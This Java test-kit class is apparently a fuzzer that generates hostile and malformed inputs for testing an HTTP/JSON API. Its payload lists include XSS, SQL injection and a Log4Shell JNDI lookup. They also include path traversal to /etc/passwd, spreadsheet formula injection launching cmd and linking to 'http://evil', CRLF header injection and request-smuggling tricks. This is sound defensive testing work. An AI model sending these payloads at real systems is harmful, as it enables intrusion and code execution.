package vn.bhxh.shield.testkit.fuzz;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/**
 * Deterministic generators of what attackers and broken clients send: invalid UTF-8, huge and deeply nested JSON,
 * wrong types, nulls, duplicate keys, CSV that a spreadsheet would execute, header and path tricks. Every method
 * draws only from the {@link Random} it is given, so a seed reproduces a run.
 */
public final class HostileInput {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** Text that breaks naive code: NUL, unpaired surrogates, RTL override, zero-width, combining marks, emoji. */
    private static final List<String> NASTY_TEXT = List.of("", " ", "\u0000", "\ud800", "\udfff", "\u202e0904038115",
            "0904\u200b038\u200b115", "a\u0301\u0302\u0303\u0304\u0305\u0306", "😀🇻🇳", "\uFEFF", "\r\n\r\n", "null",
            "undefined", "NaN", "-1", "0", "1e309", "<script>alert(1)</script>", "' OR 1=1 --", "${jndi:ldap://x/a}",
            "../../etc/passwd", "%00", "%ff%fe", "tel:", "url:javascript:alert(1)", "domain:", "bank::",
            "０９０４０３８１１５", "+84 904 038 115 ext. 99999999999999999999", "ｔｈａｎｈ ｈｏá", "Thanh Hóa\u0000",
            "https://xn--80ak6aa92e.com", "https://[::1]:99999/", "http://a@b@c/", "hxxp://[.]", "\t\t\t", "\\u0000",
            "9".repeat(400), "đ".repeat(300));

    private HostileInput() {
    }

    public static <T> T pick(Random random, List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    public static String nastyText(Random random) {
        return random.nextInt(4) == 0 ? randomUnicode(random, 1 + random.nextInt(64)) : pick(random, NASTY_TEXT);
    }

    /** Any code points, including unassigned ones, controls and lone surrogates. */
    public static String randomUnicode(Random random, int length) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < length; i++) {
            int plane = random.nextInt(10);
            int codePoint = plane < 4 ? random.nextInt(0x80) : plane < 8 ? random.nextInt(0x10000)
                    : random.nextInt(Character.MAX_CODE_POINT + 1);
            text.appendCodePoint(codePoint);
        }
        return text.toString();
    }

    /** Byte sequences no UTF-8 decoder accepts: lone continuation bytes, overlongs, surrogates, 0xFE/0xFF, cut sequences. */
    public static byte[] invalidUtf8(Random random) {
        byte[][] bad = {{(byte) 0x80}, {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xE0, (byte) 0x80, (byte) 0xAF},
                {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xFE}, {(byte) 0xFF}, {(byte) 0xC3},
                {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {(byte) 0xE1, (byte) 0xBB}};
        return bad[random.nextInt(bad.length)];
    }

    public static byte[] randomBytes(Random random, int length) {
        byte[] bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    /** {@code bytes} with invalid UTF-8 spliced in at a random place. */
    public static byte[] spliceInvalidUtf8(Random random, byte[] bytes) {
        int at = bytes.length == 0 ? 0 : random.nextInt(bytes.length);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(bytes, 0, at);
        out.writeBytes(invalidUtf8(random));
        out.write(bytes, at, bytes.length - at);
        return out.toByteArray();
    }

    public static byte[] truncate(Random random, byte[] bytes) {
        return java.util.Arrays.copyOf(bytes, bytes.length == 0 ? 0 : random.nextInt(bytes.length));
    }

    /** {@code [[[[...1...]]]]} or {@code {"a":{"a":...}}}, deeper than any parser's default limit when asked. */
    public static String deeplyNested(Random random, int depth) {
        boolean arrays = random.nextBoolean();
        return (arrays ? "[" : "{\"a\":").repeat(depth) + "1" + (arrays ? "]" : "}").repeat(depth);
    }

    /** A value of some JSON type, usually the wrong one for wherever it is put. */
    public static JsonNode anyValue(Random random) {
        return switch (random.nextInt(12)) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.booleanNode(random.nextBoolean());
            case 2 -> NODES.numberNode(random.nextLong());
            case 3 -> NODES.numberNode(random.nextDouble() * 1e300);
            case 4 -> NODES.numberNode(new BigInteger(200, random));
            case 5 -> NODES.arrayNode().add(nastyText(random)).addNull().add(random.nextInt());
            case 6 -> NODES.objectNode().put(nastyText(random), nastyText(random));
            case 7 -> NODES.textNode("x".repeat(random.nextInt(3) == 0 ? 70_000 : 300));
            case 8 -> NODES.arrayNode();
            case 9 -> NODES.objectNode();
            default -> NODES.textNode(nastyText(random));
        };
    }

    /**
     * {@code valid} with one structural change: a field given a value of another type (or null), removed, added,
     * a list element replaced, the root replaced; the result is serialised JSON.
     */
    public static String mutateJson(Random random, JsonNode valid) {
        JsonNode copy = valid.deepCopy();
        switch (random.nextInt(9)) {
            case 0 -> {
                return anyValue(random).toString();
            }
            case 1 -> {
                return NODES.arrayNode().add(copy).toString();
            }
            case 2 -> {
                ObjectNode target = pickObject(random, copy);
                target.set(pickField(random, target), anyValue(random));
            }
            case 3 -> {
                ObjectNode target = pickObject(random, copy);
                target.remove(pickField(random, target));
            }
            case 4 -> pickObject(random, copy).set(nastyText(random), anyValue(random));
            case 5 -> {
                List<ArrayNode> arrays = arraysIn(copy);
                if (!arrays.isEmpty()) {
                    ArrayNode array = pick(random, arrays);
                    if (array.isEmpty()) {
                        array.add(anyValue(random));
                    } else {
                        array.set(random.nextInt(array.size()), anyValue(random));
                    }
                }
            }
            case 6 -> {
                ObjectNode target = pickObject(random, copy);
                target.set(pickField(random, target), NODES.textNode(nastyText(random)));
            }
            case 7 -> {
                ObjectNode target = pickObject(random, copy);
                target.set(pickField(random, target), NODES.nullNode());
            }
            default -> {
                ObjectNode target = pickObject(random, copy);
                String field = pickField(random, target);
                target.set(field, copy.isObject() ? JSON.createArrayNode().add(target.path(field)) : anyValue(random));
            }
        }
        return copy.toString();
    }

    /** The same JSON text with a key of the first object repeated with another value (last one wins in Jackson). */
    public static String duplicateKey(Random random, JsonNode valid) {
        ObjectNode object = pickObject(random, valid.deepCopy());
        String field = pickField(random, object);
        String text = valid.toString();
        int brace = text.indexOf('{');
        if (brace < 0) {
            return text;
        }
        return text.substring(0, brace + 1) + JSON.valueToTree(field) + ":" + anyValue(random) + ","
                + text.substring(brace + 1);
    }

    public static JsonNode parse(String json) {
        try {
            return JSON.readTree(json);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Values a spreadsheet would run as a formula, or that break naive CSV handling. */
    public static String csvField(Random random) {
        return pick(random, List.of("=cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil\",\"x\")", "\"unclosed", "\"a\"\"b\"",
                "\"multi\nline\"", "\"multi\r\nline\"", "a,b,c", "\uFEFFidentifier", "\u0000", "\t=1+1", "\r=1+1",
                ";", "'", "\\", "0904038115", "0904038115\n0994311220", nastyText(random)));
    }

    /** Percent-encodings and characters that break naive URL handling, for a path segment or query value. */
    public static String urlJunk(Random random) {
        return pick(random, List.of("%00", "%zz", "%", "%e0%80%af", "%c0%ae%c0%ae/", "%2e%2e%2f", "..%2f..%2f",
                "%ff%fe", "%ef%bb%bf", "%u0041", "%25", "%2F", "a%0d%0aSet-Cookie:%20x=1", "%3Cscript%3E",
                "tel%3A%2B84904038115", "url%3Ahttps%3A%2F%2Fwww.facebook.com%2Fa", "x".repeat(4000),
                "%F0%9F%98%80", "+++", "&&&", "=", "a=b=c", ";jsessionid=1", "?", "#frag"));
    }

    /** The UTF-8 bytes of {@code text}. */
    public static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static List<ArrayNode> arraysIn(JsonNode node) {
        List<ArrayNode> found = new ArrayList<>();
        if (node instanceof ArrayNode array) {
            found.add(array);
        }
        for (JsonNode child : node) {
            found.addAll(arraysIn(child));
        }
        return found;
    }

    private static ObjectNode pickObject(Random random, JsonNode root) {
        List<ObjectNode> all = new ArrayList<>();
        collectObjects(root, all);
        return all.isEmpty() ? NODES.objectNode() : pick(random, all);
    }

    private static void collectObjects(JsonNode node, List<ObjectNode> into) {
        if (node instanceof ObjectNode object) {
            into.add(object);
        }
        node.forEach(child -> collectObjects(child, into));
    }

    private static String pickField(Random random, ObjectNode object) {
        List<String> names = new ArrayList<>();
        Iterator<String> it = object.fieldNames();
        it.forEachRemaining(names::add);
        return names.isEmpty() ? "x" : pick(random, names);
    }

    /**
     * One header trick on {@code request}: Content-Type wrong, missing or lying about its charset, a second
     * Authorization, absurd or junk Idempotency-Key, a huge header, CRLF or raw bytes in a value, an absurd or
     * lying Content-Length, a broken chunked body. Tricks the JDK client would refuse go raw.
     */
    public static void headerTrick(Random random, FuzzRequest.Builder request) {
        switch (random.nextInt(16)) {
            case 0 -> request.trick("no-content-type").removeHeader("Content-Type");
            case 1 -> request.trick("wrong-content-type").removeHeader("Content-Type").header("Content-Type",
                    pick(random, List.of("text/plain", "application/xml", "multipart/form-data; boundary=x",
                            "application/x-www-form-urlencoded", "text/csv", "application/json", "*/*", ";;;", "",
                            "application/json; charset=", "image/png")));
            case 2 -> request.trick("charset-lie").removeHeader("Content-Type").header("Content-Type",
                    pick(random, List.of("application/json; charset=iso-8859-1", "application/json; charset=utf-16",
                            "text/csv; charset=windows-1258", "application/json; charset=nonexistent-42",
                            "text/csv; charset=utf-32be")));
            case 3 -> request.trick("second-authorization").header("Authorization", "Bearer " + nastyText(random));
            case 4 -> request.trick("junk-authorization").removeHeader("Authorization").header("Authorization",
                    pick(random, List.of("Bearer", "Bearer ", "Basic YWRtaW46YWRtaW4=", "bearer  ", "Token x",
                            "Bearer " + "A".repeat(6000), "Bearer éè", "Bearer dev-operator-token extra")));
            case 5 -> request.trick("idempotency-key-junk").header("Idempotency-Key", pick(random, List.of("", " ",
                    "x".repeat(7000), "../../", "ÿþ", "null", "*", "a b c", "🔑")));
            case 6 -> request.trick("huge-header").header("X-Filler", "y".repeat(random.nextBoolean() ? 7000 : 70_000));
            case 7 -> request.trick("crlf-in-header").raw().header("X-Note", "a\r\nSet-Cookie: hacked=1");
            case 8 -> request.trick("bare-lf-in-header").raw().header("Idempotency-Key", "k\nX-Injected: 1");
            case 9 -> request.trick("absurd-content-length").raw().removeHeader("Content-Length").header("Content-Length",
                    pick(random, List.of("99999999999999999999", "-1", "abc", "1e6", " 5", "0x10", "2147483648")));
            case 10 -> request.trick("content-length-lie").raw().header("Content-Length",
                    Integer.toString(Math.max(0, request.body().length + (random.nextBoolean() ? -7 : 1000))));
            case 11 -> request.trick("two-content-lengths").raw().header("Content-Length",
                    Integer.toString(request.body().length)).header("Content-Length", "3");
            case 12 -> request.trick("broken-chunked").raw().header("Transfer-Encoding", "chunked")
                    .body(pick(random, List.of("zz\r\nabc\r\n0\r\n\r\n", "5\r\nab", "FFFFFFFFFFFF\r\n")));
            case 13 -> request.trick("non-ascii-header").raw().header("X-Name", "Nguyễn Văn A")
                    .header("Authorization", "Bearer ễ");
            case 14 -> request.trick("header-without-colon").raw().header("NoColonHere", "").header(":", "x");
            default -> request.trick("expect-continue").raw().header("Expect", "100-continue");
        }
    }

    /** One path trick: dot segments, encoded separators, NUL, overlong UTF-8, doubled slashes, matrix params, case. */
    public static void pathTrick(Random random, FuzzRequest.Builder request) {
        String target = request.target();
        int query = target.indexOf('?');
        String path = query < 0 ? target : target.substring(0, query);
        String rest = query < 0 ? "" : target.substring(query);
        String tricked = switch (random.nextInt(12)) {
            case 0 -> path + "/";
            case 1 -> path.replace("/v1/", "//v1//");
            case 2 -> path + "/..";
            case 3 -> path + "/%2e%2e/%2e%2e/health";
            case 4 -> path + "%00";
            case 5 -> path + ";jsessionid=0";
            case 6 -> path.toUpperCase(Locale.ROOT);
            case 7 -> path + "/" + urlJunk(random);
            case 8 -> path.replace("/api/", "/api/%2e/");
            case 9 -> path + "%c0%af";
            case 10 -> "/" + "a/".repeat(3000) + path;
            default -> path + "/éễ";
        };
        request.trick("path").target(tricked + rest);
        if (!tricked.chars().allMatch(c -> c > 32 && c < 127)) {
            request.raw();
        }
    }

    /** A request line no server should take: junk method, version, target; sent raw. */
    public static void requestLineTrick(Random random, FuzzRequest.Builder request) {
        switch (random.nextInt(6)) {
            case 0 -> request.trick("junk-method").raw().method(pick(random, List.of("G\u0000ET", "POSTX", "get",
                    "TRACE", "CONNECT", "PROPFIND", "DELETE", "PUT", "PATCH", "OPTIONS")));
            case 1 -> request.trick("absolute-target").raw().target("http://evil.example" + request.target());
            case 2 -> request.trick(HttpFuzzer.BAD_VERSION).raw().target(request.target() + " HTTP/1.1 x");
            case 3 -> request.trick("star-target").raw().target("*");
            case 4 -> request.trick("relative-target").raw().target("x" + request.target().substring(1));
            default -> request.trick("raw-bytes-target").raw().target(request.target() + "\u00ff\u0080");
        }
    }

    /** Now and then a header trick (1 in 4), a path trick (1 in 12) or a request-line trick (1 in 33) on top. */
    public static FuzzRequest.Builder sometimes(Random random, FuzzRequest.Builder request) {
        if (random.nextInt(100) < 25) {
            headerTrick(random, request);
        }
        if (random.nextInt(100) < 8) {
            pathTrick(random, request);
        }
        if (random.nextInt(100) < 3) {
            requestLineTrick(random, request);
        }
        return request;
    }
}
